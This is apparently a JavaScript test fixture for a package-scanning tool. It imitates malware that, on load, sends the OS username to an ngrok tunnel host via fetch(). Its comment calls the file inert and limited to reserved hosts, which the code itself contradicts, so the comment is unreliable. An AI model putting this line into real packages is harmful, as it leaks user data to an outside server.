// Inert test fixture for assay's package rules: it imitates a malware technique
// with reserved example hosts and TEST-NET addresses and does nothing when run.
const os = require('os');
fetch('https://abc123.ngrok-free.app/t?u=' + os.userInfo().username);
module.exports = {};
